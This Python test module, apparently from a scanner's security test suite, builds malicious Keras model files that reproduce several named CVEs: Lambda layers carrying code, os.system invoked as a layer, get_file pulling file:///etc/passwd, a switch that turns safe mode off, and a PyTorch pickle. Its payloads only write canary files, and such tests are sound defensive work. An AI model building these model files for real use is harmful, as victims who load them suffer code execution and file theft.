"""Files that bring code, or name it."""

from __future__ import annotations

import io
import json
from pathlib import Path
from typing import Any

from tests.attacks.model_files.making import (
    CANARY,
    Make,
    base,
    function,
    layer,
)
from tests.nets.loading.files import with_layer


def lambda_of(folder: Path) -> dict[str, Any]:
    """Write a function that writes the canary, as Keras writes it into a file."""
    from keras.src.utils.python_utils import func_dump

    place = str(folder / CANARY)
    code = eval(f"lambda x: (open({place!r}, 'w').write('run'), x)[1]")
    dumped = func_dump(code)
    return {"code": dumped[0], "defaults": None, "closure": None}


def lambda_layer(folder: Path) -> bytes:
    code = {"class_name": "__lambda__", "config": lambda_of(folder)}
    return with_layer(base(), layer("Lambda", function=code))


def old_lambda(folder: Path) -> bytes:
    """CVE-2025-9905: in files of Keras 2 nothing looked at the code."""
    import h5py

    code = lambda_of(folder)["code"]
    config = {
        "class_name": "Sequential",
        "config": {
            "name": "s",
            "layers": [
                {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 8, 8, 3]}},
                {
                    "class_name": "Lambda",
                    "config": {"function": [code, None, None], "function_type": "lambda"},
                },
            ],
        },
    }
    file = io.BytesIO()
    with h5py.File(file, "w") as opened:
        opened.attrs["model_config"] = json.dumps(config)
        opened.attrs["keras_version"] = "2.15.0"
        opened.create_group("model_weights")
    return file.getvalue()


def called(module: str, name: str, *given: Any, **named: Any) -> Make:
    """CVE-2025-1550 and -8747: a function of any module is called as a layer is."""

    def make(folder: Path) -> bytes:
        values = [each(folder) if callable(each) else each for each in given]
        named_values = {k: v(folder) if callable(v) else v for k, v in named.items()}
        node = {"args": values, "kwargs": named_values}
        evil = layer("Lambda", function=function(name, module), arguments=named_values)
        return with_layer(base(), evil | {"inbound_nodes": [node], "name": "evil"})

    return make


def called_as_layer(module: str, name: str, *given: Any) -> Make:
    """CVE-2025-1550 as first told: the function stands in the place of a layer."""

    def make(folder: Path) -> bytes:
        node = {"args": [each(folder) if callable(each) else each for each in given], "kwargs": {}}
        evil = function(name, module) | {"name": "evil", "inbound_nodes": [node]}
        return with_layer(base(), evil)

    return make


def unsafe_switch(folder: Path) -> bytes:
    """CVE-2025-9906: a file switches Keras's safe mode off, and then has a Lambda."""
    first = layer("Lambda", function=function("enable_unsafe_deserialization", "keras.config"))
    code = {"class_name": "__lambda__", "config": lambda_of(folder)}
    return with_layer(with_layer(base(), first), layer("Lambda", name="two", function=code))


def saved_model(folder: Path) -> bytes:
    """CVE-2026-1462: a SavedModel that lies elsewhere is loaded, and computed later."""
    return with_layer(base(), layer("TFSMLayer", filepath=str(folder), call_endpoint="serve"))


def saved_model_as_function(folder: Path) -> bytes:
    """Let an activation be what loads a SavedModel, past the check of layers."""
    evil = layer("Activation", activation=function("TFSMLayer", "keras.layers"))
    return with_layer(base(), evil)


def torch_module(folder: Path) -> bytes:
    """CVE-2025-49655: a pickle of PyTorch."""
    return with_layer(base(), layer("TorchModuleWrapper", module={"__bytes__": "gASVBQ=="}))


def vocabulary(folder: Path) -> bytes:
    """CVE-2025-12058: a vocabulary is read from any path or address."""
    (folder / "secret").write_text("secret\nwords\n")
    return with_layer(base(), layer("StringLookup", vocabulary=str(folder / "secret")))


ATTACKS: dict[str, Make] = {
    "a Lambda with code": lambda_layer,
    "CVE-2025-9905, a Lambda of Keras 2": old_lambda,
    "CVE-2025-1550, os.system as a layer": called_as_layer(
        "os", "system", lambda folder: f"touch {folder / CANARY}"
    ),
    "CVE-2025-1550, in a Lambda": called("os", "system", lambda folder: f"touch {folder / CANARY}"),
    "CVE-2025-8747, get_file": called(
        "keras.utils",
        "get_file",
        fname=lambda folder: str(folder / CANARY),
        origin="file:///etc/passwd",
    ),
    "CVE-2025-9906, the safe mode switched off": unsafe_switch,
    "CVE-2025-12058, a vocabulary by path": vocabulary,
    "CVE-2025-49655, a module of PyTorch": torch_module,
    "CVE-2026-1462, a SavedModel": saved_model,
    "a SavedModel as an activation": saved_model_as_function,
}
